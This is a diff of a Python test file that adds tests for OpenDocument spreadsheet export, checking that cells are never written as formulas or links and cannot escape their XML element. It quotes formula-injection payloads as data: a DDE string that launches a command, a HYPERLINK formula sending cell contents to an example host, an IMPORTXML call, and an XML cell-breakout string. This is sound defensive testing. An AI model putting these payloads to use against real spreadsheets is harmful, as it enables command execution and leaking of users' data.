@@ -6,11 +6,14 @@ import csv
 import io
 import zipfile
 from datetime import UTC, date, datetime
+from decimal import Decimal
 
 import openpyxl
 import pytest
+from odfdo import Document
+from python_calamine import CalamineWorkbook
 
-from core.tables import TRIGGERS, safe_cell, to_csv, to_xlsx
+from core.tables import TRIGGERS, Cell, safe_cell, to_csv, to_ods, to_xlsx
 
 FORMULAS = (
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "=IMPORTXML(A1,\"//a\")",
@@ -95,3 +98,43 @@ def test_a_very_long_text_is_cut_and_says_so() -> None:
     assert isinstance(value, str)
     assert len(value) == 32_767
     assert value.endswith("…")
+
+
+def ods(made: bytes) -> list[list[object]]:
+    """The cells of an OpenDocument sheet, read by another library than the one that imports them."""
+    table = Document(io.BytesIO(made)).body.get_table(0)
+    assert table is not None
+    return [[*row.get_values()] for row in table.get_rows()]
+
+
+def test_no_ods_cell_is_a_formula_or_a_link_and_none_breaks_out_of_its_place() -> None:
+    sly = '</text:p></table:table-cell><table:table-cell table:formula="of:=1+1"/>'
+    made = to_ods("Payloads", PAYLOADS[:5], [*([payload] for payload in PAYLOADS), [sly, 'a"b', "tail"]])
+    with zipfile.ZipFile(io.BytesIO(made)) as parts:
+        assert parts.namelist() == ["mimetype", "content.xml", "META-INF/manifest.xml"]
+        written = parts.read("content.xml").decode()
+    for active in ('formula="', 'href="', "<text:a", "script"):
+        assert active not in written
+    assert ods(made)[-1][:3] == [sly, 'a"b', "tail"]
+    assert written.count('office:value-type="string"') == len(PAYLOADS) + 5 + 3
+
+
+def test_ods_gives_back_what_went_in_in_both_readers() -> None:
+    moment = datetime(2026, 7, 1, 11, 30, tzinfo=UTC)
+    row: list[Cell] = ["=1+1  & two\nlines", 7, date(2026, 11, 26), None, 1.5, moment]
+    made = to_ods("Plan: 2020/22 [all]?*", ["A", "B", "C", "D", "E", "F"], [row, [" first"]])
+    clock_here = datetime(2026, 7, 1, 12, 30)
+    assert ods(made)[1] == ["=1+1  & two\nlines", 7, date(2026, 11, 26), None, Decimal("1.5"), clock_here]
+    book = CalamineWorkbook.from_filelike(io.BytesIO(made))
+    found = book.get_sheet_by_index(0).to_python()
+    assert found[1] == ["=1+1  & two\nlines", 7.0, date(2026, 11, 26), "", 1.5, clock_here]
+    assert found[2][0] == " first"
+    assert made == to_ods("Plan: 2020/22 [all]?*", ["A", "B", "C", "D", "E", "F"], [row, [" first"]])
+    assert "/" not in book.sheet_names[0]
+
+
+def test_what_xml_cannot_hold_is_left_out_of_ods_and_a_very_long_text_is_cut() -> None:
+    shown = ods(to_ods("Odd", ["A"], [["a\x00\x0b\ud800b"], ["x" * 40_000]]))
+    assert shown[1] == ["ab"]
+    assert str(shown[2][0]).endswith("x…")
+    assert len(str(shown[2][0])) == 32_767
